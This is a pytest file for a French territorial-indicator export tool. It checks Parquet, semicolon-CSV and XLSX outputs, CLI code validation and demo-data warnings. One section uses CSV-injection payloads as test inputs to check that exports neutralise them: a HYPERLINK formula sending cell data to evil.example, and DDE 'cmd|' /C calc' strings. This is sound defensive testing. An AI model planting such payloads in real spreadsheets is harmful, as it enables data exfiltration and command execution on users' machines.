"""Exports of the indicator table (Parquet, French CSV, XLSX with definitions) and the `abs-diag indicators` command,
on the session's demo store (refreshed through the demo mirror, so its exports say their figures are synthetic),
and hostile text (commune names, `--name`) that a spreadsheet must show as text, never run as a formula."""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from typer.testing import CliRunner

from flows.cli import app
from sources.demo import MIRROR_ROOT
from sources.mirror import serve
from sources.refresh import refresh
from storage.store import Store
from transforms.export import COLUMNS_FR, DEMO_COLUMN_FR, definitions, write_exports
from transforms.pipeline import Selection, export_indicators
from transforms.registry import indicators

CSMA = "200067346"  # the demo's Clisson Sèvre et Maine Agglo: Clisson 44043, Gorges 44064, Haute-Goulaine 44071...
BOM = b"\xef\xbb\xbf"


@pytest.fixture(scope="module")
def store(demo_store) -> Store:
    """The session's demo store (tests/conftest.py), read only."""
    return demo_store


@pytest.fixture(scope="module")
def epci_export(store, tmp_path_factory):
    out = tmp_path_factory.mktemp("epci-export")
    table, paths = export_indicators(store, out, Selection(epci=CSMA))
    return table, paths


def test_the_selection_holds_the_territory_its_communes_and_references(epci_export, store):
    table, _ = epci_export
    communes = table.filter(pl.col("level") == "COM")["code"].unique().sort().to_list()
    assert "44043" in communes and "44064" in communes
    assert sorted(table["level"].unique().to_list()) == ["COM", "DEP", "EPCI", "FRANCE"]
    assert table.filter(pl.col("level") == "EPCI")["code"].unique().to_list() == [CSMA]
    n = len(indicators())
    assert table.filter(pl.col("level") == "EPCI").height == n and table.filter(pl.col("level") == "FRANCE").height == n


def test_parquet_round_trips(epci_export):
    table, paths = epci_export
    assert paths["parquet"].name == f"indicateurs-epci-{CSMA}.parquet"
    back = pl.read_parquet(paths["parquet"])
    # a store refreshed from the demo mirror: every row says its figures are synthetic, even without `demo=True`
    assert back["demo"].to_list() == [True] * table.height
    assert back.drop("demo").equals(table)
    assert back.drop("demo").schema == table.schema


def test_csv_is_french_spreadsheet_friendly(epci_export):
    table, paths = epci_export
    raw = paths["csv"].read_bytes()
    assert raw.startswith(BOM)  # Excel reads UTF-8 only with it
    text = raw[len(BOM) :].decode("utf-8")
    header = text.splitlines()[0].split(";")
    assert header[:5] == ["niveau", "code", "nom", "thème", "indicateur"]
    assert set(header) <= set(COLUMNS_FR.values()) | {DEMO_COLUMN_FR}
    back = pl.read_csv(raw[len(BOM) :], separator=";", decimal_comma=True, infer_schema=False)
    assert back.height == table.height
    # the value of a non-integer rate is written with a decimal comma, rounded to 3 decimals
    row = table.filter((pl.col("level") == "EPCI") & (pl.col("indicator") == "taux_chomage_rp")).row(0, named=True)
    written = back.filter((pl.col("niveau") == "EPCI") & (pl.col("indicateur") == "taux_chomage_rp"))["valeur"][0]
    assert "," in written and "." not in written
    assert float(written.replace(",", ".")) == round(row["value"], 3)
    # statuses are spelt out for people
    labels = back.filter(pl.col("statut") == "epci_fallback")["motif"].unique().to_list()
    assert labels == ["taux de l'EPCI (non publié pour la commune)"]


def test_xlsx_has_the_table_and_the_definitions(epci_export):
    table, paths = epci_export
    book = openpyxl.load_workbook(paths["xlsx"], read_only=True)
    assert book.sheetnames == ["À lire", "indicateurs", "définitions"]  # the demo store's warning first
    book.close()
    sheet = pl.read_excel(paths["xlsx"], sheet_name="indicateurs")
    assert sheet.height == table.height and sheet.columns[:2] == ["niveau", "code"]
    defs = pl.read_excel(paths["xlsx"], sheet_name="définitions")
    assert defs.height == len(indicators()) == definitions().height
    assert defs["indicateur"].to_list() == [i.id for i in indicators()]
    assert defs.filter(pl.col("indicateur") == "taux_chomage_rp")["sens"][0] == "plus élevé = besoin plus fort"


def test_demo_exports_say_their_figures_are_synthetic(epci_export, tmp_path):
    table, _ = epci_export
    paths = write_exports(table, tmp_path, "demo", demo=True)
    plain = write_exports(table, tmp_path, "plain")
    parquet = pl.read_parquet(paths["parquet"])
    assert parquet["demo"].dtype == pl.Boolean and parquet["demo"].to_list() == [True] * table.height
    assert parquet.drop("demo").equals(table)
    csv = pl.read_csv(paths["csv"].read_bytes()[len(BOM) :], separator=";", decimal_comma=True, infer_schema=False)
    assert csv["données"].unique().to_list() == ["synthétiques (démonstration)"]
    book = openpyxl.load_workbook(paths["xlsx"], read_only=True)
    assert book.sheetnames == ["À lire", "indicateurs", "définitions"]  # the warning is the sheet Excel opens on
    first = [row[0] for row in book["À lire"].iter_rows(values_only=True)]
    book.close()
    assert first[0].startswith("DÉMONSTRATION") and any("inventés" in line for line in first)
    assert pl.read_excel(paths["xlsx"], sheet_name="indicateurs")["données"].unique().to_list() == [
        "synthétiques (démonstration)"
    ]
    # the real exports carry no such column
    assert "demo" not in pl.read_parquet(plain["parquet"]).columns
    assert "données" not in plain["csv"].read_bytes()[len(BOM) :].decode("utf-8").splitlines()[0].split(";")


def test_a_custom_territory_export_is_named_after_it(store, tmp_path):
    territory = Selection(communes=("44043", "44064"), name="Vallée de l'Autise")
    table, paths = export_indicators(store, tmp_path, territory)
    assert paths["csv"].name == "indicateurs-vallee-de-l-autise.csv"
    own = table.filter(pl.col("level") == "TERRITORY")
    assert own.height == len(indicators()) and own["name"].unique().to_list() == ["Vallée de l'Autise"]
    assert own.filter(pl.col("indicator") == "revenu_median")["status"].to_list() == ["non agrégeable"]


def _run(*args: str):
    return CliRunner().invoke(app, ["indicators", *args])


@pytest.mark.parametrize(
    "args, stem, levels",
    [
        (["--epci", CSMA], f"epci-{CSMA}", {"COM", "EPCI", "DEP", "FRANCE"}),
        (["--commune", "44043"], "commune-44043", {"COM", "EPCI", "DEP", "FRANCE"}),
        (
            ["--communes", "44043,44064", "--name", "Clisson et Gorges"],
            "clisson-et-gorges",
            {"COM", "TERRITORY", "EPCI", "DEP", "FRANCE"},
        ),
        # the national table holds the arrondissements of Paris and Lyon too (level ARM, never summed into a city)
        (["--all"], "france", {"COM", "ARM", "EPCI", "DEP", "FRANCE"}),
        # an arrondissement: itself (ARM), its whole city (COM 75056), the city's EPCI, Paris (75) and France
        (["--commune", "75101"], "commune-75101", {"ARM", "COM", "EPCI", "DEP", "FRANCE"}),
    ],
)
def test_the_indicators_command_writes_the_exports(store, tmp_path, args, stem, levels):
    result = _run(*args, "--data-dir", str(store.root), "--out", str(tmp_path))
    assert result.exit_code == 0, result.output
    paths = {fmt: tmp_path / f"indicateurs-{stem}.{fmt}" for fmt in ("parquet", "csv", "xlsx")}
    # every format for a territory; France (2 million rows on the real data) in Parquet and CSV only
    assert {fmt for fmt, p in paths.items() if p.exists()} == ({"parquet", "csv"} if stem == "france" else set(paths))
    table = pl.read_parquet(paths["parquet"])
    assert set(table["level"].unique().to_list()) == levels
    assert f"{table.height} values" in result.output
    if args[:2] == ["--commune", "44043"]:
        assert table.filter(pl.col("level") == "COM")["code"].unique().to_list() == ["44043"]
    if args[:2] == ["--commune", "75101"]:
        assert table.filter(pl.col("level") == "COM")["code"].unique().to_list() == ["75056"]
        assert table.filter(pl.col("level") == "ARM")["code"].unique().to_list() == ["75101"]


@pytest.mark.parametrize(
    "args, message",
    [
        (["--epci", "12345"], "an EPCI is named by its SIREN, 9 digits (200067346), not '12345'"),
        (["--epci", "2000673AB"], "an EPCI is named by its SIREN, 9 digits (200067346), not '2000673AB'"),
        (["--epci", "200067347"], "200067347 is not a valid SIREN: its check digit is wrong"),
        (["--commune", "4404"], "5 characters"),
        (["--communes", "44043,ABCDE"], "a commune code has 5 characters (44043, 2A004), not 'ABCDE'"),
        (["--epci", "200000172"], "not in the target COG's EPCI composition"),  # a valid check digit
        (["--commune", "99999"], "not in the target COG"),
        (["--epci", CSMA, "--commune", "44043"], "exactly one of"),
    ],
)
def test_the_indicators_command_refuses_malformed_codes(store, tmp_path, args, message):
    result = _run(*args, "--data-dir", str(store.root), "--out", str(tmp_path))
    assert result.exit_code != 0
    assert message in " ".join(result.output.split())  # the usage box wraps long lines
    assert not list(Path(tmp_path).glob("indicateurs-*"))  # nothing written


def test_an_export_longer_than_an_excel_sheet_spans_several_sheets(tmp_path, monkeypatch):
    """France has ~2 million rows: Excel stops at 1,048,576 per sheet, so the rows go on in the next sheet."""
    from transforms import export

    monkeypatch.setattr(export, "XLSX_MAX_ROWS", 2)
    table = pl.DataFrame(
        {
            "level": ["COM"] * 5,
            "code": [f"0100{i}" for i in range(1, 6)],
            "indicator": ["population"] * 5,
            "value": [1.0, 2.0, 3.0, 4.0, 5.0],
            "status": [None] * 5,
            "unit": ["count"] * 5,
            "evolution_unit": [None] * 5,
        },
        schema_overrides={"status": pl.String, "evolution_unit": pl.String},
    )
    paths = export.write_exports(table, tmp_path, "t")
    book = openpyxl.load_workbook(paths["xlsx"], read_only=True)
    # 5 rows, 2 per sheet: 2 + 2 + 1
    assert book.sheetnames == ["indicateurs 1", "indicateurs 2", "indicateurs 3", "définitions"]
    assert [book[f"indicateurs {n}"].max_row - 1 for n in (1, 2, 3)] == [2, 2, 1]


# -- hostile text: a spreadsheet shows it, never runs it --------------------------------------------------------

# What OWASP's CSV injection page lists as the start of a formula (= + - @ tab CR), written by hand.
HOSTILE = {
    "01001": '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
    "01002": "+1+1",
    "01003": "-2+3+cmd|' /C calc'!A0",
    "01004": "@SUM(1+1)*cmd|' /C calc'!A0",
    "01005": "\t=1+1",
    "01006": "\r=1+1",
}
BENIGN = {"01007": "Saint-Léger-sous-Cholet", "01008": "L'Abergement-Clémenciat"}  # a hyphen or quote inside


def csv_rows(path: Path) -> list[dict[str, str]]:
    """The CSV as the text a spreadsheet receives, cell by cell."""
    text = path.read_bytes()[len(BOM) :].decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


def ooxml_text(value: object) -> object:
    """A string as Excel reads it: the XML escape `_x000D_` is a carriage return (openpyxl leaves it escaped)."""
    if not isinstance(value, str):
        return value
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def xlsx_cells(path: Path, sheet: str) -> list[dict[str, tuple[object, str]]]:
    """Each row of a sheet: header -> (value, openpyxl data_type)."""
    book = openpyxl.load_workbook(path)
    rows = list(book[sheet].iter_rows())
    header = [c.value for c in rows[0]]
    return [{h: (ooxml_text(c.value), c.data_type) for h, c in zip(header, row)} for row in rows[1:]]


def assert_no_formula_nor_link(path: Path) -> None:
    """No cell of any sheet is a formula (`<f>`) and no hyperlink was made of a text."""
    with zipfile.ZipFile(path) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sheets
        for name in sheets:
            xml = zf.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml and "<hyperlink" not in xml, name


def hostile_table() -> pl.DataFrame:
    names = {**HOSTILE, **BENIGN}
    n = len(names)
    return pl.DataFrame(
        {
            "level": ["COM"] * n,
            "code": list(names),
            "name": list(names.values()),
            "indicator": ["population"] * n,
            "value": [-0.5] + [10.0] * (n - 1),
            "evolution": [-1.25] + [2.0] * (n - 1),
            "status": [None] * n,
            "unit": ["count"] * n,
            "evolution_unit": ["percent_per_year"] * n,
        },
        schema_overrides={"status": pl.String},
    )


def test_csv_text_cells_that_start_a_formula_get_a_leading_quote(tmp_path):
    paths = write_exports(hostile_table(), tmp_path, "hostile")
    rows = {row["code"]: row for row in csv_rows(paths["csv"])}
    assert rows["01001"]["nom"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
    assert rows["01002"]["nom"] == "'+1+1"
    assert rows["01003"]["nom"] == "'-2+3+cmd|' /C calc'!A0"
    assert rows["01004"]["nom"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows["01005"]["nom"] == "'\t=1+1"
    assert rows["01006"]["nom"] == "'\r=1+1"
    # text that starts no formula is left as it is
    assert rows["01007"]["nom"] == "Saint-Léger-sous-Cholet" and rows["01008"]["nom"] == "L'Abergement-Clémenciat"
    # numbers stay numbers: a negative value or evolution is not text to neutralise
    assert rows["01001"]["valeur"] == "-0,5" and rows["01001"]["évolution"] == "-1,25"
    assert rows["01002"]["évolution"] == "2"  # a whole number is written without decimals (issue 13)
    # the Parquet (for machines) keeps the original text
    assert pl.read_parquet(paths["parquet"])["name"].to_list()[:6] == list(HOSTILE.values())


def test_xlsx_writes_hostile_names_as_text_and_numbers_as_numbers(tmp_path):
    paths = write_exports(hostile_table(), tmp_path, "hostile", demo=True)
    assert_no_formula_nor_link(paths["xlsx"])
    rows = {row["code"][0]: row for row in xlsx_cells(paths["xlsx"], "indicateurs")}
    for code, name in {**HOSTILE, **BENIGN}.items():
        assert rows[code]["nom"] == (name, "s"), code  # the original text, stored as a string
    assert rows["01001"]["valeur"] == (-0.5, "n") and rows["01001"]["évolution"] == (-1.25, "n")


def test_the_definitions_sheet_writes_text_as_text_too(tmp_path, monkeypatch):
    from transforms import export

    hostile = pl.DataFrame(
        {"indicateur": ["population"], "définition": ["=1+1"], "précautions": ["@A1"], "effectif minimal": [-3]}
    )
    monkeypatch.setattr(export, "definitions", lambda: hostile)
    paths = export.write_exports(hostile_table(), tmp_path, "hostile")
    assert_no_formula_nor_link(paths["xlsx"])
    [row] = xlsx_cells(paths["xlsx"], "définitions")
    assert row["définition"] == ("=1+1", "s") and row["précautions"] == ("@A1", "s")
    assert row["effectif minimal"] == (-3, "n")


def test_a_custom_territory_named_like_a_formula_is_text_in_every_export(store, tmp_path):
    name = '=HYPERLINK("http://evil.example","Vallée")'
    result = _run("--communes", "44043,44064", f"--name={name}", "--data-dir", str(store.root), "--out", str(tmp_path))
    assert result.exit_code == 0, result.output
    [csv_path] = tmp_path.glob("indicateurs-*.csv")
    own = [r for r in csv_rows(csv_path) if r["niveau"] == "TERRITORY"]
    assert len(own) == len(indicators()) and {r["nom"] for r in own} == {"'" + name}
    xlsx_path = csv_path.with_suffix(".xlsx")
    assert_no_formula_nor_link(xlsx_path)
    names = {r["nom"] for r in xlsx_cells(xlsx_path, "indicateurs") if r["niveau"][0] == "TERRITORY"}
    assert names == {(name, "s")}


@pytest.fixture(scope="module")
def hostile_cog_export(tmp_path_factory):
    """Three communes of the demo's CSMA renamed in the COG file (`LIBELLE`), refreshed, exported."""
    root = tmp_path_factory.mktemp("hostile-cog")
    mirror = root / "mirror"
    shutil.copytree(MIRROR_ROOT, mirror)
    cog = mirror / "www.insee.fr/fr/statistiques/fichier/8377162/v_commune_2025.csv"
    text = cog.read_bytes().decode("utf-8")
    # NCC, NCCENR, LIBELLE: only LIBELLE (the name shown) changes
    renames = {
        ",CLISSON,Clisson,Clisson,": ',CLISSON,Clisson,"=HYPERLINK(""http://evil.example"",""Clisson"")",',
        ",GORGES,Gorges,Gorges,": ",GORGES,Gorges,@SUM(1+1),",
        ",HAUTE-GOULAINE,Haute-Goulaine,Haute-Goulaine,": ",HAUTE-GOULAINE,Haute-Goulaine,-2+3,",
    }
    for old, new in renames.items():
        assert text.count(old) == 1, old
        text = text.replace(old, new)
    cog.write_bytes(text.encode("utf-8"))
    store = Store(root / "data")
    with serve(mirror) as served:
        report = refresh(store=store, mirror=served.url, progress=False)
    assert report.failed == [], [f.error for f in report.failed]
    return export_indicators(store, root / "out", Selection(epci=CSMA))


def test_commune_names_of_the_cog_are_text_in_the_csv_and_the_xlsx(hostile_cog_export):
    table, paths = hostile_cog_export
    expected = {"44043": '=HYPERLINK("http://evil.example","Clisson")', "44064": "@SUM(1+1)", "44071": "-2+3"}
    staged = dict(table.filter(pl.col("level") == "COM").select("code", "name").unique().iter_rows())
    assert {code: staged[code] for code in expected} == expected  # the COG's names, kept as they are
    csv_names = {(r["code"], r["nom"]) for r in csv_rows(paths["csv"]) if r["niveau"] == "COM"}
    assert {("44043", "'" + expected["44043"]), ("44064", "'@SUM(1+1)"), ("44071", "'-2+3")} <= csv_names
    assert_no_formula_nor_link(paths["xlsx"])
    xlsx_names = {(r["code"][0], r["nom"]) for r in xlsx_cells(paths["xlsx"], "indicateurs") if r["niveau"][0] == "COM"}
    assert {(code, (name, "s")) for code, name in expected.items()} <= xlsx_names


def test_counts_are_whole_numbers_in_the_csv_and_years_plain_in_the_xlsx(epci_export):
    """Issue 13: the CSV wrote a population of 7458 as « 7458,0 »; the XLSX showed 2022 as « 2 022 »."""
    table, paths = epci_export
    rows = [r for r in csv_rows(paths["csv"]) if r["niveau"] == "COM" and r["code"] == "44043"]
    population = next(r for r in rows if r["indicateur"] == "population")
    # the demo world gives Clisson 7458 inhabitants in 2022 (sources/demo/world.py)
    assert population["valeur"] == "7458" and population["numérateur"] == "7458"
    assert population["année"] == "2022"
    unemployment = next(r for r in rows if r["indicateur"] == "taux_chomage_rp")
    assert re.fullmatch(r"\d+,\d{1,3}", unemployment["valeur"])  # a rate keeps its decimal comma
    book = openpyxl.load_workbook(paths["xlsx"])
    sheet = book["indicateurs"]
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    first = next(sheet.iter_rows(min_row=2, max_row=2))
    for name in ("année", "année de comparaison"):
        assert first[header.index(name)].number_format == "0", name  # 2022, not 2 022
    assert first[header.index("valeur")].number_format == "General"  # 7458, not 7 458,000
